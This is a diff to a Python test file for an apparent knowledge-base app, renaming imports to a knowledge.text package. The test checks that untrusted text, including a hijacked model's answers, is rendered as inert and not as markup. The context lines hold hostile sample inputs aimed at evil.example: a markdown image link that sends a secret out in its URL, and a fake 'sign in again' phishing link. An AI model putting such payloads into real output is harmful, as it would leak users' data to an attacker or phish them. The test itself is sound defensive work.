@@ -1,5 +1,5 @@
-"""Untrusted text is never markup (issue 24, items 1 and 2): :func:`knowledge.render.inert` / :func:`md`
-for names and messages, :func:`knowledge.render.answer_html` for the model's answers.
+"""Untrusted text is never markup (issue 24, items 1 and 2): :func:`knowledge.text.render.inert` / :func:`md`
+for names and messages, :func:`knowledge.text.render.answer_html` for the model's answers.
 
 Each hostile input is what an attacker would put in a file name, a document or a hijacked model's
 answer to make the signed-in browser fetch an address (``![x](http://evil.example/x?d=secret)``) or
@@ -14,8 +14,8 @@ import pytest
 from bs4 import BeautifulSoup
 from markdown_it import MarkdownIt
 
-from knowledge import render
-from knowledge.highlight import WORD_JOINER
+from knowledge.text import render
+from knowledge.text.highlight import WORD_JOINER
 
 EVIL = "evil.example"
 HOSTILE_NAME = ("[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) "
